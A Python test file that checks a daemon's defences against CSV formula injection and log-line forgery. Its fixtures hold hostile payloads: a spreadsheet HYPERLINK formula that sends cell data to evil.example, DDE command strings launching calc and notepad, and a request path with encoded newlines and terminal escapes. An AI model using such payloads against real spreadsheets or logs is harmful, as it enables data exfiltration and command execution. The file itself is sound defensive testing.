"""Hardening against a hostile network (issue 23, items 2–8): formulas in CSV cells, connection
exhaustion without a token, bodies read before the token is checked, unlimited failed
authentication, forged log lines, NUL in paths and parameters, and hygiene (/metrics behind the
read token, a JSON 414, Content-Length with chunked, one clock).

Each test fails against the daemon as it was before issue 23; the figures they measure are
written to build/reliability/ for docs/RELIABILITY.md."""
import csv
import io
import json
import os
import socket
import threading
import time
import unittest

from harness import ADMIN, Daemon, DaemonTestCase, wait_for

FIGURES = os.path.join(os.path.dirname(__file__), "..", "..", "build", "reliability")
DAY, NOW = "2017-12-06", "2017-12-07T10:30:00+08:00"
READ = "read-token-for-tests-0123456789"


def figure(name, values):
    os.makedirs(FIGURES, exist_ok=True)
    with open(os.path.join(FIGURES, name + ".json"), "w") as f:
        json.dump(values, f)


def csv_rows(r):
    return list(csv.DictReader(io.StringIO(r.body.decode("utf-8-sig"), newline="")))


def raw(port, data, timeout=10, source=None):
    """Sends data on a fresh connection (from source, an address of this host) and returns
    what comes back until the server closes or a whole response has arrived."""
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout,
                                 source_address=(source, 0) if source else None)
    try:
        try:
            s.sendall(data)
        except (BrokenPipeError, ConnectionResetError):
            pass  # answered before the whole request was read
        out = b""
        while True:
            try:
                chunk = s.recv(65536)
            except (socket.timeout, ConnectionResetError):
                break
            if not chunk:
                break
            out += chunk
            head, sep, body = out.partition(b"\r\n\r\n")
            if sep:
                length = [l for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")]
                if length and len(body) >= int(length[0].split(b":")[1]):
                    break
        return out
    finally:
        s.close()


def status_of(out):
    line = out.split(b"\r\n", 1)[0]
    return int(line.split()[1]) if line.startswith(b"HTTP/") else None


def body_of(out):
    return json.loads(out.partition(b"\r\n\r\n")[2].decode())


class CsvFormulaTest(DaemonTestCase):
    """Item 2: text cells that a spreadsheet would run as a formula get a leading '; numbers,
    negative ones too, stay numbers."""
    ENV = {"AQRANK_NOW": NOW, "AQRANK_MIN_HOURS": "1", "AQRANK_FINALIZE_QUIET": "100000",
           "AQRANK_FINALIZE_AFTER": "2592000"}
    EVIL = {"name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "unit": "+cmd|' /C calc'!A0",
            "contact_person": "-2+3", "contact_phone": "@SUM(1+1)"}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        d = cls.d
        d.put_station("CSV-1", **cls.EVIL)
        d.put_station("CSV-2", name="\t=1+1", unit="\r=1+1", contact_person="东城区-2")
        d.put_station("CSV-3", name="plain", unit="-", contact_person="")
        readings = []
        for code, pm10 in (("CSV-1", 150), ("CSV-2", 120), ("CSV-3", 90)):
            readings += [{"station": code, "observed_at": f"{DAY}T{h:02d}:00:00+08:00", "pm10": pm10,
                          "pm25": 50, "temperature": -3.5} for h in range(24)]
        d.post_readings(readings)
        r = d.post(f"/api/v1/ranking/{DAY}/finalize", token=ADMIN)
        assert r.status == 200, r
        iv = d.get(f"/api/v1/interviews?date={DAY}").json["interviews"]
        first = [x for x in iv if x["station"] == "CSV-1"][0]
        r = d.request("PATCH", f"/api/v1/interviews/{first['id']}", body={"status": "interviewed",
                      "note": "=cmd|' /C notepad'!A0"}, token=ADMIN)
        assert r.status == 200, r

    def test_ranking_csv(self):
        rows = {x["station"]: x for x in csv_rows(self.d.get(f"/api/v1/ranking/{DAY}?format=csv"))}
        self.assertEqual(rows["CSV-1"]["name"], "'" + self.EVIL["name"])
        self.assertEqual(rows["CSV-1"]["unit"], "'" + self.EVIL["unit"])
        self.assertEqual(rows["CSV-2"]["name"], "'\t=1+1")
        self.assertEqual(rows["CSV-2"]["unit"], "'\r=1+1")
        self.assertEqual(rows["CSV-3"]["name"], "plain")
        self.assertEqual(rows["CSV-3"]["unit"], "'-")
        self.assertEqual((rows["CSV-1"]["value"], rows["CSV-1"]["rank"]), ("150", "3"))
        # The JSON keeps what was stored: neutralizing is for spreadsheets only.
        j = {x["station"]: x for x in self.d.get(f"/api/v1/ranking/{DAY}").json["ranking"]}
        self.assertEqual(j["CSV-1"]["name"], self.EVIL["name"])

    def test_interviews_csv(self):
        rows = {x["station"]: x for x in csv_rows(self.d.get(f"/api/v1/interviews?date={DAY}&format=csv"))}
        self.assertEqual(rows["CSV-1"]["name"], "'" + self.EVIL["name"])
        self.assertEqual(rows["CSV-1"]["unit"], "'" + self.EVIL["unit"])
        self.assertEqual(rows["CSV-1"]["contact_person"], "'-2+3")
        self.assertEqual(rows["CSV-1"]["note"], "'=cmd|' /C notepad'!A0")
        self.assertEqual(rows["CSV-2"]["contact_person"], "东城区-2")
        self.assertEqual(rows["CSV-3"]["contact_person"], "")
        self.assertEqual(rows["CSV-1"]["value"], "150")
        self.assertRegex(rows["CSV-1"]["pct_above_mean"], r"^\d+\.\d$")

    def test_readings_csv_keeps_negative_numbers(self):
        r = self.d.get("/api/v1/stations/CSV-1/readings?format=csv&limit=3")
        rows = csv_rows(r)
        self.assertEqual(len(rows), 3)
        for row in rows:
            self.assertEqual(row["temperature"], "-3.5")
            self.assertEqual(row["pm10"], "150")
        # No cell of any CSV starts with a formula character unless it is a number.
        for path in (f"/api/v1/ranking/{DAY}?format=csv", f"/api/v1/interviews?date={DAY}&format=csv",
                     "/api/v1/stations/CSV-2/readings?format=csv"):
            for row in csv.reader(io.StringIO(self.d.get(path).body.decode("utf-8-sig"), newline="")):
                for cell in row:
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        float(cell)  # only a number may start so


class LogInjectionTest(DaemonTestCase):
    """Item 6: a %0a in a path cannot forge a log line, nor %1b colour the operator's terminal."""
    FORGED = "2017-12-07T15:00:00.000000+08:00 info POST /api/v1/stations/FORGED 201 0 0.1ms"

    def forged_request(self):
        quoted = self.FORGED.replace(" ", "%20").replace(":", "%3a")
        out = raw(self.d.port, f"GET /healthz%0a{quoted}%0d%0a%1b[31mred%1b[0m HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        self.assertEqual(status_of(out), 404, out)
        out = raw(self.d.port, b"GET /api/v1/stations/%e4%b8%9c%ff%c2%9b HTTP/1.1\r\nHost: x\r\n\r\n")
        self.assertEqual(status_of(out), 404, out)

    def test_forged_line_is_escaped(self):
        before = len(self.d.lines)
        self.forged_request()
        line = wait_for(lambda: [l for l in self.d.lines[before:] if "/healthz" in l], 5, "the request line")
        self.assertEqual(len(line), 1, self.d.lines[before:])
        self.assertIn("/healthz\\x0a2017-12-07T15", line[0])
        self.assertIn("\\x0d\\x0a\\x1b[31mred\\x1b[0m 404", line[0])
        wait_for(lambda: any("/api/v1/stations/" in l for l in self.d.lines[before:]), 5, "the second line")
        new = self.d.lines[before:]
        self.assertFalse([l for l in new if l.startswith("2017-12-07T15:00:00.000000")], new)
        self.assertFalse([l for l in new if "\x1b" in l or "\r" in l], new)
        self.assertTrue([l for l in new if "/api/v1/stations/东\\xff\\u{009b} 404" in l], new)

    def test_json_log_lines_stay_json(self):
        d = Daemon(env={"AQRANK_LOG_FORMAT": "json"}).start()
        try:
            before = len(d.lines)
            out = raw(d.port, b"GET /x%0a%22%5c%1b%ff HTTP/1.1\r\nHost: x\r\n\r\n")
            self.assertEqual(status_of(out), 404, out)
            self.assertEqual(body_of(out)["error"]["code"], "not_found")  # %ff: still a JSON answer
            line = wait_for(lambda: [l for l in d.lines[before:] if '"status":404' in l], 5, "the request line")
            self.assertEqual(json.loads(line[0])["path"], '/x\\x0a"\\\\\\x1b\\xff')
        finally:
            self.assertEqual(d.stop(), 0)


if __name__ == "__main__":
    unittest.main()
